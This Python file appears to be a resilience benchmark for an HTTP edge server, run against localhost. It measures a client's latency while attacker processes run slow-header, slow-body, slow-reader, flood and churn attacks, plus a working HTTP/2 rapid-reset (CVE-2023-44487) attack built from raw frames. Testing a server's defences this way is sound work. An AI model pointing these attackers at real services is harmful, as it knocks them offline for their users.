"""The hot client and the attackers of scripts/bench/attacks."""

import gc
import json
import os
import select
import socket
import ssl
import struct
import subprocess
import sys
import time
import urllib.request

HOST = "studylab.localhost"
# The hot client has an app of its own: what is measured is the edge.
GET = b"GET / HTTP/1.1\r\nHost: hot.localhost\r\n\r\n"
SECONDS = float(os.environ.get("SECONDS_EACH", "4"))
# How attackers are started, so that they come last on their CPU.
LAST = os.environ.get("LAST", "").split()
# The hot client asks this often, every tenth time on a connection of its own.
EVERY = 0.002

# --- The attackers. Each runs until its time is over and returns what it did.


def crowd(address, seconds, size, first, drip=b"", pause=0.25, reads=True):
    """Keeps `size` connections open, which send `first`, then `drip` every `pause`; one that the edge
    ends is made anew."""
    poll = select.epoll()
    mask = select.EPOLLRDHUP | select.EPOLLERR | select.EPOLLHUP | (select.EPOLLIN if reads else 0)
    people, opened, ended, answers = {}, 0, 0, {}
    until, next_drip = time.monotonic() + seconds, 0.0

    def leave(fd):
        poll.unregister(fd)
        people.pop(fd)[0].close()

    while (now := time.monotonic()) < until:
        # Not all in one breath, so that ends are seen meanwhile.
        for _ in range(min(64, size - len(people))):
            s = socket.socket()
            if not reads:
                s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
            s.setblocking(False)
            s.connect_ex(address)
            people[s.fileno()] = (s, [first])
            poll.register(s, mask)
            opened += 1
        if now >= next_drip:
            next_drip = now + pause
            for fd, (s, to_send) in list(people.items()):
                try:
                    if to_send[0]:
                        s.send(to_send[0])
                    to_send[0] = drip
                except BlockingIOError:
                    pass
                except OSError:
                    leave(fd)
                    ended += 1
        for fd, event in poll.poll(0.005):
            said = b""
            if event & select.EPOLLIN:
                try:
                    said = people[fd][0].recv(65536)
                except OSError:
                    pass
            if said.startswith(b"HTTP/1.1 "):
                status = said[9:12].decode()
                answers[status] = answers.get(status, 0) + 1
            if not said or event & ~select.EPOLLIN:
                leave(fd)
                ended += 1
    return {"opened": opened, "ended": ended, **answers}


def churn(address, seconds):
    """Opens connections and closes them at once, every eighth with a request for an unknown host."""
    opened, refused = 0, 0
    stranger = b"GET / HTTP/1.1\r\nHost: nobody.test\r\n\r\n"
    until, kept = time.monotonic() + seconds, []
    while time.monotonic() < until:
        s = socket.socket()
        s.setblocking(False)
        if s.connect_ex(address) in (0, 115):
            opened += 1
            if opened % 8 == 0:
                try:
                    s.send(stranger)
                except OSError:
                    refused += 1
        kept.append(s)
        if len(kept) >= 32:
            for old in kept:
                old.close()
            kept.clear()
    return {"opened": opened, "refused": refused}


def frame(kind, flags, stream, payload):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def h2_connect(address, tls):
    s = tls.wrap_socket(socket.create_connection(address, 5), server_hostname=HOST)
    s.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0, b""))
    return s


def resets(address, seconds):
    """Opens HTTP/2 streams and resets them at once (CVE-2023-44487), on one connection after another."""
    path, host = b"/debug/echo", HOST.encode()
    # RFC 7541: GET and https of the static table, path and authority as literals.
    head = b"\x82\x87\x04" + bytes([len(path)]) + path + b"\x01" + bytes([len(host)]) + host
    opened, sent, ended = 0, 0, 0
    tls = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    tls.check_hostname, tls.verify_mode = False, ssl.CERT_NONE
    tls.set_alpn_protocols(["h2"])
    until = time.monotonic() + seconds
    while time.monotonic() < until:
        try:
            s = h2_connect(address, tls)
        except OSError:
            ended += 1
            continue
        opened, stream = opened + 1, 1
        try:
            while time.monotonic() < until and stream < 1 << 30:
                burst = b""
                for _ in range(50):
                    burst += frame(1, 5, stream, head) + frame(3, 0, stream, b"\0\0\0\x08")
                    stream += 2
                s.sendall(burst)
                sent += 50
        except OSError:
            ended += 1
        s.close()
    return {"connections": opened, "resets sent": sent, "ended": ended}


ATTACKS = {
    "slow-heads": (1000, b"GET / HTTP/1.1\r\nX-Slow: ", b"a"),
    "slow-bodies": (
        500,
        f"POST /debug/echo HTTP/1.1\r\nHost: {HOST}\r\nContent-Length: 1000000\r\n\r\n".encode(),
        b"a",
    ),
    "slow-readers": (250, f"GET /debug/bytes?n=67108864 HTTP/1.1\r\nHost: {HOST}\r\n\r\n".encode(), b""),
    "flood": (6000, b"", b""),
    "churn": None,
    "resets": None,
}


def attack(kind, plain, secure, seconds):
    if kind == "resets":
        return resets(secure, seconds)
    if kind == "churn":
        return churn(plain, seconds)
    size, first, drip = ATTACKS[kind]
    return crowd(plain, seconds, size, first, drip, reads=kind != "slow-readers")


# --- The hot client.


def dial(address):
    s = socket.create_connection(address, 30)
    s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    return s


def ask(s):
    """One request; its status (0 without an answer), and whether the connection goes on."""
    try:
        s.sendall(GET)
        read = b""
        while b"\r\n\r\n" not in read:
            more = s.recv(65536)
            if not more:
                return 0, False
            read += more
        head, body = read.split(b"\r\n\r\n", 1)
        fields = dict(f.split(b": ", 1) for f in head.lower().split(b"\r\n")[1:])
        while len(body) < int(fields[b"content-length"]):
            more = s.recv(65536)
            if not more:
                return 0, False
            body += more
        return int(head[9:12]), fields.get(b"connection") != b"close"
    except OSError:
        return 0, False


class Seen:
    """What the hot client saw."""

    def __init__(self):
        self.kept, self.new = [], []
        self.failed = self.closed = self.refused = 0

    def took(self, latency):
        # A client that keeps its pace would have asked while this one waited.
        while latency > 0:
            self.kept.append(latency)
            latency -= EVERY


def in_real_time(really):
    """Before the attackers, on the CPU that is theirs too."""
    try:
        policy = os.SCHED_FIFO if really else os.SCHED_OTHER
        os.sched_setscheduler(0, policy, os.sched_param(1 if really else 0))
    except PermissionError:
        pass


def hot(address, seconds, seen):
    s, n = dial(address), 0
    in_real_time(True)
    until = time.monotonic() + seconds
    gc.disable()
    while (began := time.monotonic()) < until:
        n += 1
        if n % 10 == 0:
            status = 0
            try:
                own = dial(address)
                status, _ = ask(own)
                own.close()
            except OSError:
                pass
            if status == 200:
                seen.new.append(time.monotonic() - began)
            else:
                seen.refused += 1
        else:
            status, goes_on = ask(s)
            if not goes_on:
                s.close()
                s = dial(address)
                seen.closed += 1
            if status != 200:
                seen.failed += 1
            seen.took(time.monotonic() - began)
        left = began + EVERY - time.monotonic()
        if left > 0:
            time.sleep(left)
    in_real_time(False)
    gc.enable()
    s.close()


# --- The edge, as it is seen from outside.


def memory_mib(pid):
    with open(f"/proc/{pid}/status") as lines:
        return next(int(l.split()[1]) for l in lines if l.startswith("VmRSS")) / 1024


def cpu_s(pid):
    with open(f"/proc/{pid}/stat") as stat:
        fields = stat.read().rpartition(")")[2].split()
    return (int(fields[11]) + int(fields[12])) / os.sysconf("SC_CLK_TCK")


def metrics(admin):
    with urllib.request.urlopen(f"http://{admin}/metrics", timeout=30) as answer:
        text = answer.read().decode()
    found = {}
    for line in text.splitlines():
        if line.startswith(("vango_edge_cutoffs_total{", "vango_edge_client_connections ")):
            name, _, value = line.rpartition(" ")
            found[name.partition('"')[2].rstrip('"}') or "open"] = int(float(value))
    return found


def settle(admin):
    """Waits until the attackers' connections are closed."""
    until = time.monotonic() + 20
    while metrics(admin)["open"] > 0 and time.monotonic() < until:
        time.sleep(0.05)


def percentile(values, share):
    values = sorted(values)
    return values[min(len(values) - 1, int(len(values) * share))] * 1e3 if values else float("nan")


def attacked(kind, where, addresses, pid, seen):
    """A round of the hot client beside `kind`; what the attackers did and what it cost."""
    plain, secure, admin = addresses
    before, cpu = metrics(admin), cpu_s(pid)
    attackers = [
        subprocess.Popen(
            [*LAST, sys.executable, __file__, "--attack", kind, where, str(SECONDS + 1.5)], stdout=subprocess.PIPE
        )
        for _ in range(2 if kind in ("churn", "resets") else 1)
    ]
    # They begin, and their first wave is part of it.
    time.sleep(0.5)
    hot(plain, SECONDS, seen)
    highest = memory_mib(pid)
    did = {}
    for attacker in attackers:
        for what, n in json.loads(attacker.communicate()[0] or b"{}").items():
            did[what] = did.get(what, 0) + n
    cpu = (cpu_s(pid) - cpu) / (SECONDS + 1.5)
    after = metrics(admin)
    shed = {k: after[k] - before.get(k, 0) for k in after if k != "open" and after[k] > before.get(k, 0)}
    return did, shed, highest, cpu


def add(total, more):
    for k, n in more.items():
        total[k] = total.get(k, 0) + n


def main():
    file, pid, rounds, *kinds = sys.argv[1:]
    with open(file) as said:
        where = said.read()
    said = json.loads(where)
    split = lambda a: (a.rpartition(":")[0], int(a.rpartition(":")[2]))
    addresses = split(said["listen"][0]), split(said["tls"][0]), said["admin"]
    # Both apps are awake.
    with urllib.request.urlopen(
        urllib.request.Request(f"http://{said['listen'][0]}/debug/echo", headers={"Host": HOST}), timeout=30
    ):
        pass
    hot(addresses[0], 2, Seen())
    failed = False
    print(f"{rounds} rounds of {SECONDS:g} s each; milliseconds of a hot request, on a kept connection and on a new one:")
    print(
        f"{'':13} {'p50 quiet':>9} {'attacked':>9} {'p99 quiet':>9} {'attacked':>9} {'ratio':>6}"
        f" {'new p99':>8} {'attacked':>9} {'refused':>8} {'MiB':>6} {'highest':>8} {'after':>6} {'edge CPU':>9}"
    )
    for kind in kinds or ATTACKS:
        quiet, beside = Seen(), Seen()
        did, shed, highest, load = {}, {}, 0, []
        before = memory_mib(pid)
        for _ in range(int(rounds)):
            hot(addresses[0], SECONDS, quiet)
            one = attacked(kind, where, addresses, pid, beside)
            add(did, one[0])
            add(shed, one[1])
            highest = max(highest, one[2])
            load.append(one[3])
            settle(addresses[2])
        time.sleep(1)
        p99 = percentile(quiet.kept, 0.99), percentile(beside.kept, 0.99)
        print(
            f"{kind:13} {percentile(quiet.kept, 0.5):9.2f} {percentile(beside.kept, 0.5):9.2f} {p99[0]:9.2f}"
            f" {p99[1]:9.2f} {p99[1] / p99[0]:6.2f} {percentile(quiet.new, 0.99):8.2f}"
            f" {percentile(beside.new, 0.99):9.2f} {beside.refused:8} {before:6.0f} {highest:8.0f}"
            f" {memory_mib(pid):6.0f} {sum(load) / len(load):9.0%}"
        )
        print(f"{'':13} attackers: {did}; cut off by the edge: {shed or 'none'}", flush=True)
        if quiet.failed + beside.failed > 0 or highest > before + 256:
            print(f"{'':13} FAILED: {quiet.failed} + {beside.failed} hot requests without a 200, {highest:.0f} MiB")
            failed = True
    return 1 if failed else 0


if __name__ == "__main__":
    if sys.argv[1] == "--attack":
        told = json.loads(sys.argv[3])
        ends = [told[k][0].rpartition(":") for k in ("listen", "tls")]
        print(json.dumps(attack(sys.argv[2], *[(h, int(p)) for h, _, p in ends], float(sys.argv[4]))))
    else:
        sys.exit(main())
